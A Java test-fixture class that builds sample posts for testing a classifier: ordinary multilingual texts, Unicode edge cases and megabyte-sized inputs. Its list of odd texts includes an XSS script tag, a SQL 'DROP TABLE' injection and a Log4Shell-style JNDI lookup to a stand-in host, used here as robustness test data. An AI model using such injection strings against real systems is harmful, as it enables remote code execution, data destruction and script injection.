package io.gistmill.classifier.tck;

import io.gistmill.domain.Origin;
import io.gistmill.domain.Post;
import io.gistmill.domain.Quote;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;

/// Posts to try a classifier with.
public final class Posts {

  private static final int MEGABYTE = 1 << 20;
  private static final Instant TIME = Instant.parse("2025-06-02T08:00:00Z");

  /// Texts that go wrong where letters are counted, folded or matched carelessly.
  private static final List<String> ODD_TEXTS =
      List.of(
          "",
          " ",
          "\n\n\t\r\n",
          "?!.,;",
          "\ud83e",
          "\udd16",
          "\udd16\ud83e",
          "half a sign \ud83e in between",
          "nothing\u0000here\u0000",
          "\u202eturned around\u202c and \u2066apart\u2069 \u200f\u200e",
          "\ufeffmark at the begin",
          "e\u0301\u0301\u0301 caf\u00e9 cafe\u0301 \u212b \ufb01 \uff21\uff29",
          "\u0130stanbul \u0131 \u00df \u1e9e \u03a3\u03c2",
          "\ud83d\udc69\u200d\ud83d\udcbb \ud83c\udde9\ud83c\uddea \u2764\ufe0f",
          "\u200b\u200b\u00ad\u2060",
          "<script>alert('x')</script> <b>&amp;",
          "'; DROP TABLE posts; -- {\"json\": [1, }",
          "${jndi:ldap://a.example/x} %s %n {0} \\u0041 \\",
          "a" + "\u0301".repeat(5_000),
          "a".repeat(30_000) + "!",
          "(".repeat(5_000) + ")".repeat(5_000),
          "https://a.example/" + "x/".repeat(2_000));

  private Posts() {}

  /// A post of text alone.
  public static Post text(String text) {
    return of(null, text, List.of(), List.of());
  }

  public static Post titled(String title, String text) {
    return of(title, text, List.of(), List.of());
  }

  /// A post that is about other posts and pages.
  ///
  /// @param quoted texts of quoted posts
  /// @param links addresses
  public static Post quoting(String text, List<String> quoted, List<String> links) {
    return of(null, text, quoted.stream().map(Posts::quote).toList(), links);
  }

  private static Quote quote(String text) {
    return new Quote("Bo Quill", "bo", null, text);
  }

  private static Post of(
      @Nullable String title, String text, List<Quote> quoted, List<String> links) {
    return new Post(
        "post-" + Integer.toHexString(text.hashCode()) + "-" + quoted.size() + "-" + links.size(),
        new Origin("tck", null),
        "Ada Finch",
        "ada",
        TIME,
        false,
        null,
        title,
        text,
        quoted,
        List.of(),
        links);
  }

  /// Posts such as people write them.
  static List<Post> ordinary() {
    return List.of(
        text("The kettle is on, and the cat sleeps on the warm window sill."),
        text("今天的会议改到下午三点,地点不变。"),
        titled("Release notes", "Version 2 reads files twice as fast and needs half the memory."),
        quoting(
            "Worth reading twice.",
            List.of("A long walk along the river, with rain all the way."),
            List.of("https://news.example/river-walk", "https://maps.example/?q=river")),
        titled("", "No title, but an empty one"),
        text("Ärger mit dem Zug: 45 Minuten Verspätung, schon wieder."));
  }

  /// Posts that no person would write, but somebody will send. Some hold the text of a given post
  /// among signs that shift its place.
  static List<Post> odd(List<Post> given) {
    var odd = new ArrayList<Post>();
    ODD_TEXTS.forEach(text -> odd.add(text(text)));
    ODD_TEXTS.forEach(text -> odd.add(titled(text, "the title is odd")));
    odd.add(quoting("", ODD_TEXTS, List.of("", "no address", "https://", "\ud83e://\u0000")));
    odd.add(quoting("many", Collections.nCopies(500, "quoted"), links(2_000)));
    for (Post post : given) {
      odd.add(text("\ud83e \u0000\u202e\ud83d\udc69\u200d\ud83d\udcbb e\u0301 " + post.text()));
      odd.add(text(post.text() + "\ud83e"));
      odd.add(text(post.text().toUpperCase(Locale.ROOT)));
      odd.add(quoting("", List.of("", post.text()), post.links()));
    }
    return odd;
  }

  /// Posts of a megabyte of text and more. Some begin with that of a given post.
  static List<Post> huge(List<Post> given) {
    String begin = given.isEmpty() ? "word " : given.getFirst().text() + " ";
    return List.of(
        text(begin.repeat(MEGABYTE / begin.length() + 1)),
        text("a".repeat(MEGABYTE)),
        text("长".repeat(MEGABYTE)),
        text(begin + "one two, three. ".repeat(MEGABYTE / 16)),
        text("\n".repeat(MEGABYTE)),
        titled("t".repeat(MEGABYTE), ""));
  }

  private static List<String> links(int number) {
    return IntStream.range(0, number).mapToObj(i -> "https://a.example/" + i).toList();
  }
}
